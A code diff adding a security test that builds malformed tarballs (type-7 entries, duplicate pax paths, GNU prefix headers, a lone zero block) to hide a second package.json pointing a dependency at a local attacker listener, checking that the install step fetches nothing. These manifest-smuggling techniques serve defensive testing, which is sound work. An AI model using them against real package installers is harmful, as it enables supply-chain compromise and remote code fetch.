@@ -19,7 +19,7 @@ import { createServer } from 'node:http';
 import { dirname, isAbsolute, join, normalize, relative } from 'node:path';
 import { describe } from 'vitest';
 import { SkillsError } from '../../src/errors.js';
-import { npmPack } from '../helpers/build-packages.js';
+import { craftTarball, npmPack, paxRecord, type TarEntry } from '../helpers/build-packages.js';
 import { canaryToken } from './harness/host.js';
 import { blockedIf, breach, FORCED, securitySuite, type CaseContext } from './harness/security-case.js';
 import { CLI, forcedPrefix } from './harness/server-under-test.js';
@@ -492,6 +492,71 @@ describe('skill environments', () => {
         accepted.length === 0,
         `${lines.length} lines refused (ENV_SPEC_INVALID); accepted: ${accepted.join(', ') || 'none'}; attacker listener: ${w.attacker.requests.length} requests`,
       );
+    },
+  );
+  securityCase(
+    {
+      id: 'env-file-tarball-hidden-manifest',
+      category: 'install',
+      title:
+        'a vendored tarball hiding a second package.json from the check (type 7, duplicate pax path, GNU prefix, lone zero block) that depends on a URL: nothing fetched',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      const good = JSON.stringify({ name: 'tiny', version: '1.0.0', main: 'index.js' });
+      const evil = JSON.stringify({
+        name: 'tiny',
+        version: '1.0.0',
+        main: 'index.js',
+        dependencies: { evil: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
+      });
+      const index: TarEntry = { name: 'package/index.js', data: "exports.value = 'vendored';\n" };
+      const manifest: TarEntry = { name: 'package/package.json', data: good };
+      const variants: Record<string, (TarEntry | null)[]> = {
+        'contiguous file': [manifest, index, { ...manifest, data: evil, type: '7' }],
+        'duplicate pax path': [
+          manifest,
+          index,
+          {
+            name: 'PaxHeader',
+            type: 'x',
+            data: paxRecord('path', 'package/README') + paxRecord('path', 'package/package.json'),
+          },
+          { name: 'package/README', data: evil },
+        ],
+        'GNU header with a prefix': [
+          manifest,
+          index,
+          { ...manifest, data: evil, magic: 'ustar  \0', prefix: 'x' },
+        ],
+        'lone zero block': [manifest, index, null, { ...manifest, data: evil }],
+      };
+      const notes: string[] = [];
+      let ok = true;
+      for (const [what, entries] of Object.entries(variants)) {
+        const name = `t${notes.length}`;
+        const dir = nodeSkill(w.skills, name, {
+          'package.json': JSON.stringify({
+            name: 's',
+            private: true,
+            dependencies: { tiny: 'file:vendor/tiny.tgz' },
+          }),
+        });
+        mkdirSync(join(dir, 'vendor'));
+        writeFileSync(join(dir, 'vendor', 'tiny.tgz'), craftTarball(entries));
+        const r = await depsInstall(w, name);
+        deniedWhenForced(r);
+        const fetched = w.attacker.requests.length;
+        ok &&= fetched === 0 && r.code !== 0 && /vendor\/tiny\.tgz/.test(r.out);
+        notes.push(
+          `${what}: exit ${r.code}, attacker ${fetched} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
+        );
+      }
+      console.log(notes.join('\n'));
+      if (w.attacker.requests.length > 0) return breach(notes.join(' || '));
+      return blockedIf(ok, notes.join(' || '));
     },
   );
 });
